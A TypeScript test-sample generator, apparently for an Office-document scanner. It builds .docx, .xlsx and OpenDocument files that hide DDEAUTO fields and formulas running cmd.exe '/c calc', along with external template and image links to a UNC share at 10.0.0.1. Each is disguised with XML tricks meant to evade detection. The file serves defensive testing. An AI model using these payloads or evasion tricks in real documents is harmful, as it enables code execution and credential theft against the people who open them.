import { anOffice, entriesOf, relation, xml } from "./build-office.ts";
import { buildZip } from "./build-zip.ts";
import type { Sample } from "./sample.ts";

const share = "\\\\10.0.0.1\\share\\x.dotm";
const template =
  "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";

/** What a reader of XML takes for one thing and a search through its text for another. */
export function misreadOffice(): Sample[] {
  const made = { ...relations(), ...fields(), ...openParts(), "part-without-ending": otherName() };
  return Object.entries(made).map(([name, bytes]) => ({ group: "misread-office", name, bytes }));
}

function relations(): Record<string, Buffer> {
  const docx = (text: string) => anOffice("docx", { relations: text });
  const rest = `Type="${template}" Target="${share}" TargetMode="External"/>`;
  return {
    "bracket-in-quotes.docx": docx(`<Relationship Id="a>b" ${rest}`),
    "bracket-by-number.docx": docx(`<Relationship Id="a&#34;&#62;" ${rest}`),
    "hindi-prefix.docx": docx(`<क:Relationship xmlns:क="http://r" Id="a" ${rest}`),
    "many-noughts.docx": docx(
      relation("image", "&#x000000005c;&#x000000005c;10.0.0.1&#00000000092;x", false),
    ),
    "named-twice.docx": docx(
      `<Relationship Id="a" Type="${template}" z:Type="http://x/image" Target="${share}" z:Target="a.xml"/>`,
    ),
  };
}

function fields(): Record<string, Buffer> {
  const field = (text: string) =>
    anOffice("docx", { body: `<w:instrText xml:space="preserve">${text}</w:instrText>` });
  return {
    "field-as-it-stands.docx": field(`<![CDATA[DDEAUTO c:\\windows\\cmd.exe "/c calc"]]>`),
    "field-with-a-comment.docx": field(`D<!-- x -->DEAUTO c:\\windows\\cmd.exe "/c calc"`),
    "field-behind-a-bracket.docx": anOffice("docx", {
      body: `<क:instrText a=">" >DDEAUTO c:\\windows\\cmd.exe</क:instrText>`,
    }),
    "formula-as-it-stands.xlsx": anOffice("xlsx", {
      body: `<f><![CDATA[cmd|'/c calc'!A1]]></f>`,
    }),
    "name-that-starts.xlsx": anOffice("xlsx", {
      body: `<definedName name="a">cmd|'/c calc'!A1</definedName>`,
    }),
  };
}

function openParts(): Record<string, Buffer> {
  return {
    "other-prefix.ods": anOffice("ods", {
      body: `<x:dde-link xmlns:x="urn:oasis:names:tc:opendocument:xmlns:table:1.0"/>`,
    }),
    "picture-named-twice.odt": anOffice("odt", {
      body: `<draw:image xlink:href="${share}" z:href="Pictures/a.png"/>`,
    }),
    "picture-behind-a-bracket.odt": anOffice("odt", {
      body: `<draw:image title=">" xlink:href="${share}"/>`,
    }),
  };
}

/** The list of contents gives parts their kind; their names are anybody's. */
function otherName(): Buffer {
  const entries = entriesOf("docx", { body: "<w:instrText>DDEAUTO c:\\x</w:instrText>" });
  return buildZip(
    entries.map(({ bytes, name }) => ({
      name: name.replace("document.xml", "document.dat"),
      bytes:
        name.endsWith("]") || name.endsWith("_rels/.rels")
          ? xml(bytes.toString().replace(/^.*\n/, "").replace("document.xml", "document.dat"))
          : bytes,
    })),
  );
}
